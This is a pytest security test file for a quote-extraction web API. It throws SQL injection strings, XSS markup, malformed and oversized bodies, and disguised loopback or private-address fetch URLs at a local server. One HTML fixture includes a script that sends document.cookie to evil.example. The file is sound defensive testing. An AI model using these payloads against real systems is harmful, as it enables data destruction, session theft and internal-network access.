"""Hostile requests against a real uvicorn server on loopback: oversized and malformed bodies, search
syntax and SQL injection in every query parameter (a 4xx or a 200, never a 500, and the database
byte-for-byte unchanged afterwards), markup in articles returned as JSON data, and fetch targets that
reach private addresses in disguise.

(tests/test_api.py covers the declared and chunked JSON 413s, test_api_fetch.py plain loopback,
private and link-local addresses and redirects to them.)
"""

from __future__ import annotations

import hashlib
import json
import time
from collections.abc import Iterator

import httpx
import pytest

from quotegraph.read import read_bytes
from quotegraph.serve import create_app
from quotegraph.serve.limits import MAX_BODY_BYTES
from quotegraph.store import open_store
from tests.support import postgres
from tests.support.network import PUBLIC_IP, PUBLIC_NAME
from tests.support.server import fill_store, running, stories
from tests.support.stores import snapshot

SCRIPT_TEXT = (
    "Council site defaced with <script>alert('x')</script> tags\n\n"
    'RIVERTON -- "We found <img src=x onerror=alert(1)> on the home page," said Ada Lin, the IT chief.\n\n'
    "A senior official said the </textarea><svg onload=alert(2)> payload was removed on Tuesday.\n"
)

INJECTIONS = [
    "' OR 1=1 --",
    "'; DROP TABLE quotes; --",
    '"; DROP TABLE articles; --',
    "park'); DELETE FROM speakers; --",
    "1 UNION SELECT name, sql FROM sqlite_master",
    "x' UNION SELECT version() --",
    "'; SELECT pg_sleep(5); --",
    "%",
    "_",
    "\\",
    "%' OR '%'='",
    "*",
    "**",
    '"',
    '"""',
    "NEAR(park mayor)",
    "text:park",
    "quotes_fts:park",
    "^park",
    "{text}: park",
    "park AND",
    "NOT",
    "OR",
    "-",
    "--park",
    "park*",
    "*park",
    "(",
    "park)",
    "park:*",
    "!park",
    "park & mayor | !river",
    "park <-> mayor",
    "'",
    "$$;$$",
    "\x00",
    "park\x00; DROP TABLE quotes",
    "\u202emirrored",
    "Ｐａｒｋ",
    "🙂",
    "a" * 5000,
    " ".join(["park"] * 500),
    " OR ".join(["park"] * 300),
]

BAD_DATES = [
    "2024-01-01' OR '1'='1",
    "2024-01-01; DROP TABLE articles",
    "0000-00-00",
    "2024-02-30",
    "-1",
    "1e9",
    "\x00",
    "2024-01-01\x00",
]


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def target(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, nlp) -> str:
    if request.param == "sqlite":
        target = str(tmp_path_factory.mktemp("attacks") / "corpus.db")
    else:
        target = postgres.database_url(request)
    articles = [*stories(), read_bytes(SCRIPT_TEXT.encode(), source="script.txt", date="2024-10-01")]
    fill_store(target, nlp, articles)
    return target


@pytest.fixture(scope="module")
def corpus(target: str) -> Iterator[httpx.Client]:
    with running(create_app(target)) as base, httpx.Client(base_url=base, timeout=60) as client:
        yield client


def fingerprint(target: str) -> str:
    """Every table's rows (see test_store.snapshot), hashed."""
    with open_store(target) as store:
        rows = snapshot(store)
    return hashlib.sha256(json.dumps(rows, sort_keys=True, default=str).encode()).hexdigest()


def never_a_server_error(response: httpx.Response, allowed: set[int]) -> None:
    assert response.status_code in allowed, (response.request.url, response.status_code, response.text)
    assert response.headers["content-type"] == "application/json"
    assert "Traceback" not in response.text and "internal error" not in response.text


def test_injection_in_every_query_parameter_is_data(corpus: httpx.Client, target: str) -> None:
    before = fingerprint(target)
    every = len(corpus.get("/api/quotes", params={"limit": 200}).json()["items"])
    tried = 0
    for value in INJECTIONS:
        for route, name in [
            ("/api/quotes", "q"),
            ("/api/articles", "search"),
            ("/api/quotes", "speaker"),
        ]:
            started = time.monotonic()
            response = corpus.get(route, params={name: value, "limit": 200})
            tried += 1
            assert time.monotonic() - started < 4, (name, value)  # no pg_sleep, no runaway query
            never_a_server_error(response, {200, 400, 422})
            if response.status_code == 200:
                # A filter only narrows: an injected OR 1=1 would have returned more than everything.
                assert len(response.json()["items"]) <= (every if route == "/api/quotes" else 4)
            else:
                assert response.json()["detail"]
    for value in BAD_DATES:
        for name in ("since", "until"):
            never_a_server_error(corpus.get("/api/quotes", params={name: value}), {422})
            tried += 1
    for value in ["1 OR 1=1", "-1", "0x10", "1e3", "99999999999999999999999", "1;DROP TABLE quotes"]:
        for path in ("/api/articles/", "/api/speakers/"):
            never_a_server_error(corpus.get(path + value), {404, 422})
            tried += 1
        never_a_server_error(corpus.get("/api/quotes", params={"speaker_id": value}), {422})
        tried += 1
    assert tried > 150
    assert fingerprint(target) == before  # nothing was changed, nothing dropped


def test_markup_in_articles_comes_back_as_json_data(corpus: httpx.Client) -> None:
    (found,) = corpus.get("/api/articles", params={"search": "defaced"}).json()["items"]
    response = corpus.get(f"/api/articles/{found['id']}")
    assert response.headers["content-type"] == "application/json"
    analysis = response.json()["analysis"]
    assert analysis["text"] == SCRIPT_TEXT  # exactly as written, neither escaped nor stripped
    assert "<script>" in analysis["article"]["headline"]
    quotes = corpus.get("/api/quotes", params={"speaker": "Ada Lin"}).json()["items"]
    assert any("<img src=x onerror=alert(1)>" in quote["quote"] for quote in quotes)


def test_markup_sent_for_analysis_is_returned_as_json_data(corpus: httpx.Client) -> None:
    response = corpus.post("/api/analyze", json={"text": SCRIPT_TEXT})
    assert response.status_code == 200 and response.headers["content-type"] == "application/json"
    assert response.json()["text"] == SCRIPT_TEXT
    page = (
        "<html><head><title>Story</title></head><body><article><h1>Council meets</h1>"
        "<script>document.location='http://evil.example/'+document.cookie</script>"
        '<p>"We are ready," said Ada Lin, the harbour master, on Tuesday morning.</p>'
        '<p onclick="alert(1)">The council met on Tuesday, &lt;script&gt;alert(2)&lt;/script&gt; it said.</p>'
        "</article></body></html>"
    )
    response = corpus.post("/api/analyze", json={"html": page})
    assert response.status_code == 200, response.text
    text = response.json()["text"]
    assert "document.cookie" not in text and "onclick" not in text  # a script is not article text
    assert "<script>alert(2)</script>" in text  # escaped markup is text, kept as text


# --- bodies -------------------------------------------------------------------------------------------


def test_an_oversized_upload_is_a_413(corpus: httpx.Client) -> None:
    data = b"The mayor said so. " * (MAX_BODY_BYTES // 19 + 10)
    response = corpus.post("/api/analyze", files={"file": ("big.txt", data, "text/plain")})
    never_a_server_error(response, {413})

    def chunks() -> Iterator[bytes]:  # the same upload streamed, with no Content-Length
        boundary = b"--xyz\r\n"
        yield boundary + b'Content-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\n'
        for _ in range(MAX_BODY_BYTES // 65536 + 2):
            yield b"b" * 65536
        yield b"\r\n--xyz--\r\n"

    response = corpus.post(
        "/api/analyze", content=chunks(), headers={"Content-Type": "multipart/form-data; boundary=xyz"}
    )
    never_a_server_error(response, {413})


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        ("[" * 100_000 + "]" * 100_000, "application/json"),  # nesting deeper than any parser recursion
        ('{"text": ' + "[" * 50_000 + "]" * 50_000 + "}", "application/json"),
        ('{"text": "\\ud800 lone surrogate said Ada Lin."}', "application/json"),
        ('{"text": "a", "text": {"$gt": ""}}', "application/json"),
        ('{"text": "\\u0000\\u0000\\u0000"}', "application/json"),
        ("\xff\xfe{", "application/json"),
        (
            "--xyz\r\n" + 'Content-Disposition: form-data; name="f"\r\n\r\nv\r\n' * 3000 + "--xyz--\r\n",
            "multipart/form-data; boundary=xyz",
        ),
        (
            '--xyz\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\nunterminated',
            "multipart/form-data; boundary=xyz",
        ),
        ("whatever", "multipart/form-data"),  # no boundary
    ],
)
def test_malformed_bodies_are_a_4xx(corpus: httpx.Client, body: str, content_type: str) -> None:
    response = corpus.post(
        "/api/analyze", content=body.encode("utf-8", "surrogatepass"), headers={"Content-Type": content_type}
    )
    never_a_server_error(response, {400, 413, 415, 422})


# --- fetching: addresses in disguise ------------------------------------------------------------------


@pytest.fixture(scope="module")
def fetching(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    app = create_app(str(tmp_path_factory.mktemp("fetch") / "none.db"), allow_fetch=True)
    with running(app) as base, httpx.Client(base_url=base, timeout=60) as client:
        yield client


@pytest.mark.parametrize(
    "url",
    [
        "http://[::ffff:127.0.0.1]:{port}/",  # IPv4-mapped IPv6
        "http://2130706433:{port}/",  # 127.0.0.1 as one number
        "http://0x7f000001:{port}/",
        "http://127.1:{port}/",
        "http://0:{port}/",
        "http://0.0.0.0:{port}/",
        "http://localhost.:{port}/",
        "http://LOCALHOST:{port}/",
        "http://user@127.0.0.1:{port}/",
        "http://[::]:{port}/",
        "http://[fe80::1]:{port}/",
        "http://[fd00::1]:{port}/",
    ],
)
def test_disguised_loopback_addresses_are_refused(
    fetching: httpx.Client,
    forbidden,
    url: str,
) -> None:
    response = fetching.post("/api/analyze", json={"url": url.format(port=forbidden.port)})
    never_a_server_error(response, {400})
    assert forbidden.hits == []


def test_a_name_resolving_to_a_private_address_is_refused(
    fetching: httpx.Client,
    forbidden,
    public,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """intranet.example.com resolves to 10.20.30.40 (routed to the recording server), and a name that
    resolves to a public and a private address is refused too (every address must be public)."""
    import socket

    resolving = socket.getaddrinfo  # the simulated network of test_api_fetch

    def getaddrinfo(host: str, port, *args, **kwargs):
        if host == "intranet.example.com":
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("10.20.30.40", port))]
        if host == "both.example.com":
            return [
                (socket.AF_INET, socket.SOCK_STREAM, 6, "", (PUBLIC_IP, port)),
                (socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port)),
            ]
        return resolving(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    for host in ("intranet.example.com", "both.example.com"):
        response = fetching.post("/api/analyze", json={"url": f"http://{host}/story"})
        never_a_server_error(response, {400})
        assert "not a public internet address" in response.json()["detail"]
    public.redirect_to = "http://intranet.example.com/admin"
    response = fetching.post("/api/analyze", json={"url": f"http://{PUBLIC_NAME}/redirect"})
    never_a_server_error(response, {400})
    assert public.hits == ["/redirect"] and forbidden.hits == []
